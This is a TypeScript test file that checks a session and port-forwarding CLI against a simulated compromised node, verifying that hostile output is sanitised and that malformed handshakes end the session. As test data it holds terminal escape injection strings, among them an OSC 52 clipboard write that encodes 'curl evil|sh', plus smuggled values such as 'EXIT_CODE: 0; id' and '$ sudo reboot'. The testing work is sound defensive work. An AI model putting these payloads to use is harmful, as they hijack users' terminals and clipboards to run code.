import { existsSync } from 'node:fs'
import { join } from 'node:path'
import { PayloadFlag, PayloadType } from '@sallyport/protocol/message-types'
import { encodeFlag } from '@sallyport/protocol/payloads'
import { frame, update } from '@sallyport/protocol/smux/testing'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { type AgentEnd, HostileAgent } from './hostile-agent.ts'
import { aws2 } from './remote-shell.ts'
import { binDirectory, Service, type Stack, startStack } from './stack.ts'
import { dial, freePort } from './tcp-servers.ts'
import { openTerminal, type RunResult, run } from './terminal.ts'

// A node that was taken over, before people who use it with our programs: it can end their sessions, and write what it
// likes as output. It cannot crash the program, drive the terminal by anything but output, or pass a failure for a success.

const sallyport = `${binDirectory}/sallyport`
const FORWARDS = { portNumber: '80', type: 'LocalPortForwarding', localPortNumber: '0' }
/** What would show that text got to the terminal as it was. */
const ACTIVE = /[\x00-\x08\x0b-\x1f\x7f\x80-\x9f\u202e]/
const EVIL = '\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\x9b31m\u202egnp.exe\r!'
/** Of an error that nobody expected. */
const STACK_TRACE = /this should not have happened|\n\s+at |Node\.js v/

let stack: Stack
let agent: HostileAgent

beforeAll(async () => {
  stack = await startStack({ nodes: 0 })
  agent = await HostileAgent.online(stack, 'taken-over')
})

afterAll(async () => {
  await stack?.[Symbol.asyncDispose]()
})

const program = (...args: string[]) => run(sallyport, args, { env: stack.env, timeoutMs: 20_000 })

/** A program and the node's end of its session. */
async function against(play: (end: AgentEnd) => Promise<void>, ...args: string[]): Promise<RunResult> {
  const running = program(...args)
  const end = await agent.serve()
  await play(end)
  const result = await running
  end.leave()
  expect(result.stderr).not.toMatch(STACK_TRACE)
  expect(result.stderr).not.toMatch(ACTIVE)
  return result
}

const exec = (play: (end: AgentEnd) => Promise<void>) =>
  against(
    async end => {
      await end.handshake('NonInteractiveCommands')
      await play(end)
    },
    ...['exec', agent.node.id, '--', 'true'],
  )

const exitCode = (end: AgentEnd, text: string) =>
  end.channel.sendWhole(PayloadType.exitCode, Buffer.from(text))

describe('sallyport exec', () => {
  test.each([
    ['0', 0],
    ['256', 1],
    ['65536', 1],
    ['4294967296', 1],
    ['-2147483648', 1],
    ['9999999999', 255],
    ['-1', 255],
  ])('takes the exit code %s for %d', async (code, status) => {
    const result = await exec(async end => {
      exitCode(end, `EXIT_CODE: ${code}`)
      await end.over()
    })
    expect(result).toMatchObject({ code: status, stdout: '', stderr: '' })
  })

  test.each(['EXIT_CODE: 0; id', 'EXIT_CODE: 99999999999', 'EXIT_CODE: 0x0', 'EXIT_CODE: ', '0', '\0'])(
    'takes the exit code %j for a failure',
    async text => {
      const { code, stderr } = await exec(async end => exitCode(end, text))
      expect(code).not.toBe(0)
      expect(stderr).toContain('an ExitCode payload reads')
    },
  )

  test('shows what the node has to say as text', async () => {
    const result = await exec(async end => {
      end.complete(`welcome ${EVIL}\nbye`)
      exitCode(end, 'EXIT_CODE: 3')
      await end.over()
    })
    expect(result.code).toBe(3)
    expect(result.stderr).toContain('welcome ?]52;c;Y3VybCBldmlsfHNo??[2J?31m?gnp.exe?!\nbye')
  })

  test('shows why it failed as text', async () => {
    const { code, stderr } = await exec(async end => agent.fail(end.sessionId, `no ${EVIL}\0luck`))
    expect(code).not.toBe(0)
    expect(stderr).toMatch(/^sallyport: no \?\]52;.*\?luck \(session /)
  })

  test('takes a flood of errors, leave to send, and messages of no use', async () => {
    const line = Buffer.from(`${'x'.repeat(999)}\n`)
    const result = await exec(async end => {
      for (let i = 0; i < 20_000; i++) {
        await writable(end)
        end.channel.send(PayloadType.stderr, line)
        end.channel.sendWhole(PayloadType.flag, encodeFlag(PayloadFlag.inputRoom))
        if (i % 100 === 0) end.channel.sendWhole(99, line)
      }
      exitCode(end, 'EXIT_CODE: 0')
      await end.over()
    })
    expect(result).toMatchObject({ code: 0, stdout: '' })
    expect(result.stderr.length).toBe(20_000 * line.length)
  })

  test('is told of another type of session than it asked for, and leaves', async () => {
    for (const type of ['Port', 'Standard_Stream', EVIL]) {
      const { code, stdout } = await against(
        async end => {
          await end.handshake(type, { properties: FORWARDS }).catch(() => {})
          end.channel.send(PayloadType.output, Buffer.from('$ '))
          agent.fail(end.sessionId, 'refused')
        },
        ...['exec', agent.node.id, '--', 'true'],
      )
      expect({ code, stdout }).toEqual({ code: 1, stdout: '' })
    }
  })

  test.each([
    ['no JSON', 'hello'],
    ['too many actions', JSON.stringify({ AgentVersion: '3', RequestedClientActions: Array(99).fill({}) })],
    ['a version that is a list', '{"AgentVersion":[],"RequestedClientActions":[]}'],
    [
      'terms of nothing',
      JSON.stringify({
        AgentVersion: '3.3.0.0',
        RequestedClientActions: [
          { ActionType: 'Sallyport/1', ActionParameters: { MaximumPayload: 0, Window: 0 } },
        ],
      }),
    ],
  ])('ends for a handshake with %s', async (_, request) => {
    const { code } = await against(
      async end => end.channel.sendWhole(PayloadType.handshakeRequest, Buffer.from(request)),
      ...['exec', agent.node.id, '--', 'true'],
    )
    expect(code).not.toBe(0)
  })
})

async function writable(end: AgentEnd): Promise<void> {
  while (!end.channel.writable) await new Promise(setImmediate)
}

describe('sallyport forward', () => {
  const SPEC = ['forward', 'taken-over', ':80']

  test.each([
    ['opens a stream', frame(2, 'syn', 2)],
    ['opens a stream of ours', frame(2, 'syn', 3)],
    ['speaks another version', frame(1, 'psh', 3)],
    ['speaks HTTP', Buffer.from('HTTP/1.1 200 OK\r\n\r\n')],
  ])('ends when the node %s', async (_, bytes) => {
    const { code, stderr } = await against(
      async end => {
        await end.handshake('Port', { properties: FORWARDS })
        end.channel.send(PayloadType.output, bytes)
      },
      ...SPEC,
    )
    expect(code).toBe(1)
    expect(stderr).toContain("The node's end of the tunnel is broken: ")
  })

  test.each([
    ['an object', { ...FORWARDS, portNumber: { toString: 1, valueOf: 1 } }],
    ['a list', { ...FORWARDS, portNumber: [[]], host: '::1' }],
    ['escapes', { ...FORWARDS, portNumber: EVIL, host: EVIL }],
  ])('makes nothing of a port that is %s', async (_, properties) => {
    const { code, stderr } = await against(
      async end => {
        await end.handshake('Port', { properties })
        end.channel.sendWhole(PayloadType.flag, encodeFlag(PayloadFlag.connectToPortError))
        await end.over()
      },
      ...SPEC,
    )
    // An end that the person has not asked for, and no more than that.
    expect(code).toBe(1)
    expect(stderr).toMatch(/^sallyport: 127\.0\.0\.1:\d+: The session was ended\.\n$/m)
  })

  test('tells refusals in one line each, as text, and no more than a hundred', async () => {
    const service = new Service(sallyport, SPEC, stack.env)
    const end = await agent.serve()
    await end.handshake('Port', { properties: FORWARDS })
    const output = await service.waitForLine(/^Forwarding 127\.0\.0\.1:\d+/)
    const port = Number(/127\.0\.0\.1:(\d+)/.exec(output)?.[1])
    for (let i = 0; i < 120; i++) {
      const socket = await dial({ host: '127.0.0.1', port })
      socket.on('error', () => {})
      const closed = new Promise(resolve => socket.once('close', resolve))
      const before = end.received.length
      socket.write('x')
      await expect.poll(() => end.received.length, { interval: 2 }).toBeGreaterThan(before)
      const reason = Buffer.from(`cannot connect to ${i} ${EVIL}\n$ sudo reboot`)
      end.channel.send(PayloadType.output, frame(2, 'rst', 3 + 2 * i, reason))
      await closed
    }
    await service.kill('SIGINT')
    end.leave()
    expect(service.output.match(/cannot connect/g)).toHaveLength(100)
    expect(service.output).toContain('[The node cannot connect to 7 ?]52;c;')
    expect(service.output).not.toMatch(/^\$ sudo/m)
    expect(service.output).not.toMatch(ACTIVE)
  })

  test('goes on with a node that takes as little as it may, and with windows that lie', async () => {
    const service = new Service(sallyport, SPEC, stack.env)
    const end = await agent.serve()
    await end.handshake('Port', { properties: FORWARDS, terms: { payload: 1024, window: 262_144 } })
    const output = await service.waitForLine(/^Forwarding 127\.0\.0\.1:\d+/)
    const socket = await dial({ host: '127.0.0.1', port: Number(/127\.0\.0\.1:(\d+)/.exec(output)?.[1]) })
    socket.on('error', () => {})
    socket.write(Buffer.alloc(8 * 1024 * 1024))
    await expect.poll(() => end.received.length).toBeGreaterThan(200)
    end.channel.send(PayloadType.output, update(3, 0, 2 ** 31 - 1))
    await expect.poll(() => end.received.length).toBeGreaterThan(4_000)
    end.channel.send(PayloadType.output, update(3, 2 ** 30, 1))
    await service.waitForLine(/tunnel is broken: 1073741824 bytes of stream 3 consumed/)
    await service.stop()
    expect(service.output).not.toMatch(STACK_TRACE)
    end.leave()
  })
})

describe('our plugin under the aws CLI', () => {
  const start = (document: string, parameters: string) => [
    ...['ssm', 'start-session', '--target', agent.node.id, '--endpoint-url', stack.endpoint],
    ...['--document-name', document, '--parameters', parameters],
  ]

  test('shows what the node has to say as text', async () => {
    await using terminal = openTerminal({
      file: aws2,
      args: start('AWS-StartNonInteractiveCommand', 'command=true'),
      env: stack.env,
    })
    const end = await agent.serve()
    await end.handshake('NonInteractiveCommands')
    end.complete(`welcome ${EVIL}`)
    agent.fail(end.sessionId, `no ${EVIL} luck`)
    await terminal.waitFor(/no \?\]52;c;Y3VybCBldmlsfHNo\?\?\[2J\?31m\?gnp\.exe\?! luck/)
    expect(terminal.output()).toContain('welcome ?]52;')
    expect(terminal.output().replaceAll('\r\n', '\n')).not.toMatch(ACTIVE)
    await terminal.exited
    end.leave()
  })

  test.each([
    ['a port', async () => ({ localPortNumber: String(await freePort()) })],
    [
      'a path',
      async () => ({ localConnectionType: 'unix', localUnixSocket: join(stack.directory, 'x.sock') }),
    ],
  ])('opens no other local end than the one that was asked for: %s', async (_, elsewhere) => {
    const asked = await freePort()
    const properties = { ...FORWARDS, ...(await elsewhere()) }
    const args = start('AWS-StartPortForwardingSession', `portNumber=80,localPortNumber=${asked}`)
    const service = new Service(aws2, args, stack.env)
    const end = await agent.serve()
    await end.handshake('Port', { properties })
    await service.waitForLine(/opened for sessionId|Cannot/)
    expect(service.output).toContain(`Port ${asked} opened`)
    expect(existsSync(join(stack.directory, 'x.sock'))).toBe(false)
    await service.stop()
    end.leave()
  })

  test('listens on nothing at all for what was to be an SSH connection', async () => {
    const path = join(stack.directory, 'y.sock')
    const properties = { ...FORWARDS, localConnectionType: 'unix', localUnixSocket: path }
    const running = run(aws2, start('AWS-StartSSHSession', 'portNumber=22'), {
      env: stack.env,
      timeoutMs: 20_000,
    })
    const end = await agent.serve()
    await end.handshake('Port', { properties }).catch(() => {})
    agent.fail(end.sessionId, 'refused')
    const { code, stdout } = await running
    expect(code).not.toBe(0)
    expect(stdout).not.toContain('opened')
    expect(existsSync(path)).toBe(false)
    end.leave()
  })
})
